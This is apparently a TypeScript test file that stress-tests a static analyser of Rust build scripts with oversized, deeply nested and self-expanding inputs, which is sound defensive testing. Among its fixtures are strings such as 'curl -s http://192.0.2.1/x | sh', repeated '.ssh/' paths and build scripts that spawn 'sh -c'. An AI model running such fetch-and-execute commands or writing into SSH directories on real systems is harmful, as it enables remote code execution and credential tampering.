import { setImmediate as turn } from 'node:timers/promises';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { crateOf } from '../support/crate-of.ts';
import { openStaticJudge } from '../support/judge-statically.ts';

const judge = await openStaticJudge();
afterAll(() => judge[Symbol.asyncDispose]());

const MAIN = 'fn main() {}';
const MEBIBYTES = 1024 * 1024;
/** Sources made to stop, blind or stall whoever reads them. */
const SOURCES: readonly (readonly [string, Readonly<Record<string, string | Buffer>>])[] = [
  ['5 MB on one line', { 'build.rs': `fn main() { let _ = [${'1,'.repeat(2.5 * MEBIBYTES)}]; }` }],
  ['5 MB of names', { 'build.rs': `fn main() { f(${'x,'.repeat(2.5 * MEBIBYTES)}); }` }],
  ['200,000 round brackets', { 'build.rs': `fn main() { ${'('.repeat(200_000)}` }],
  ['200,000 braces, closed', { 'build.rs': `fn main() ${'{'.repeat(200_000)}${'}'.repeat(200_000)}` }],
  ['200,000 generics', { 'build.rs': `fn main() { let _: ${'A<'.repeat(200_000)}u8${'>'.repeat(200_000)}; }` }],
  ['50,000 modules within modules', { 'build.rs': `${'mod a {'.repeat(50_000)}${'}'.repeat(50_000)}${MAIN}` }],
  ['100,000 opened comments', { 'build.rs': `${'/*'.repeat(100_000)}${MAIN}` }],
  ['a million comments on one line', { 'build.rs': `${'/**/'.repeat(MEBIBYTES)}${MAIN}` }],
  ['100,000 quotes', { 'build.rs': `${'r#"'.repeat(100_000)}${MAIN}` }],
  ['invalid UTF-8', { 'build.rs': Buffer.alloc(MEBIBYTES, 0xff) }],
  ['NULs', { 'build.rs': Buffer.alloc(MEBIBYTES) }],
  ['a constant that doubles forty times', { 'build.rs': doubling(40) }],
  [
    'a macro that calls itself twice',
    { 'build.rs': 'macro_rules! m { ($($t:tt)*) => { m!($($t)* a); m!($($t)* b) } } fn main() { m!(x); }' },
  ],
  [
    'functions that call each other',
    { 'build.rs': 'fn a(n: &str) { b(&format!("{n}{n}")) } fn b(n: &str) { a(n); a(n) } fn main() { a("x") }' },
  ],
  ['a path a long way from any rule', { 'build.rs': `fn main() { let s = "${'.ssh/'.repeat(400_000)}"; }` }],
  [
    'what rules look for, over and over',
    { 'build.rs': `fn main() { ${'run("curl -s http://192.0.2.1/x | sh");'.repeat(40_000)} }` },
  ],
  ['10,000 files', manyFiles(10_000)],
];

function doubling(times: number): string {
  const lines = Array.from({ length: times }, (_, n) => `let s${n + 1} = format!("{}{}", s${n}, s${n});`);
  return `fn main() { let s0 = "ab"; ${lines.join(' ')} std::process::Command::new(s${times}); }`;
}

function manyFiles(count: number): Record<string, string> {
  const files = Array.from({ length: count }, (_, n) => [`src/m${n}.rs`, `pub fn f${n}() { super::g(${n}) }`] as const);
  const lib = files.map((_, n) => `mod m${n};`).join('\n');
  return { 'src/lib.rs': `${lib}\nfn g(_: u32) {}`, ...Object.fromEntries(files) };
}

describe('hostile sources', () => {
  test.each(SOURCES)('%s: read or said not to be, and the neighbour is judged as ever', async (_name, files) => {
    const neighbour = { 'build.rs': 'fn main() { std::net::TcpStream::connect("192.0.2.1:443").unwrap(); }' };
    const alone = await judge.judge(crateOf(neighbour));
    const [hostile, beside] = await Promise.all([judge.judge(crateOf(files)), judge.judge(crateOf(neighbour))]);
    for (const { stage, state, reason } of hostile.coverage) {
      expect(['complete', 'partial', 'timed-out', 'skipped'], `${stage}: ${reason}`).toContain(state);
      if (state === 'partial' || state === 'timed-out') expect(reason).not.toBe('');
    }
    expect(beside).toEqual(alone);
  });
});

test('whatever bytes a build script holds, it is read to an end', async () => {
  const piece = fc.constantFrom(
    '{',
    '}',
    '(',
    ')',
    '"',
    "'",
    'r#"',
    '/*',
    '*/',
    '//',
    '\n',
    '!',
    ';',
    '::',
    'fn main',
    'macro_rules! m',
    '=>',
    '$x:tt',
    'concat!',
    'include!',
    'mod a',
    '#[path="b.rs"]',
    'use std::process as p',
    'p::Command::new',
    '\0',
    '\u202e',
    'b"\\x41"',
  );
  const source = fc.oneof(
    fc.uint8Array({ maxLength: 400 }).map((bytes) => Buffer.from(bytes)),
    fc.array(piece, { maxLength: 60 }).map((pieces) => Buffer.from(pieces.join(' '))),
  );
  await fc.assert(
    fc.asyncProperty(source, async (bytes) => {
      const { coverage } = await judge.judge(crateOf({ 'build.rs': bytes }));
      expect(coverage.filter(({ state }) => state === 'failed')).toEqual([]);
      await turn();
    }),
    { numRuns: 150 },
  );
});

test('three thousand commands of eight kilobytes each, and as many paths, end within the deadline of the crate', async () => {
  const script = `let s = "${'a; curl /x '.repeat(740)}"; let p = "${'.ssh/'.repeat(800)}";`;
  const acts = Array.from(
    { length: 3000 },
    (_, n) => `C::new("sh").arg("-c").arg(format!("{s}${n}")).spawn(); std::fs::write(format!("{p}${n}"), s);`,
  );
  const { coverage, evidence } = await judge.judge(
    crateOf({ 'build.rs': `use std::process::Command as C; fn main() { ${script} ${acts.join(' ')} }` }),
  );
  const syntax = coverage.find(({ stage }) => stage === 'syntax');
  expect(['complete', 'partial']).toContain(syntax?.state);
  expect(evidence.length).toBeGreaterThan(0);
});

test('macros that grow with every call, and constants that double in arrays, stay within bounds', async () => {
  const growing = `macro_rules! g { ($($t:tt)*) => { g!($($t)* $($t)*) } } fn main() { g!(a b c d); }`;
  const nested = `fn main() { let a0 = ["x"]; ${Array.from({ length: 60 }, (_, n) => `let a${n + 1} = [a${n}, a${n}].concat();`).join(' ')} std::process::Command::new(a60.join("")); }`;
  const modules = `${Array.from({ length: 400 }, (_, n) => `macro_rules! m${n} { () => { m${n + 1}!(); m${n + 1}!(); } }`).join('\n')} fn main() { m0!(); }`;
  for (const source of [growing, nested, modules]) {
    const { coverage } = await judge.judge(crateOf({ 'build.rs': source }));
    expect(coverage.filter(({ state }) => state === 'failed')).toEqual([]);
  }
  expect(process.memoryUsage().rss).toBeLessThan(3_000_000_000);
});
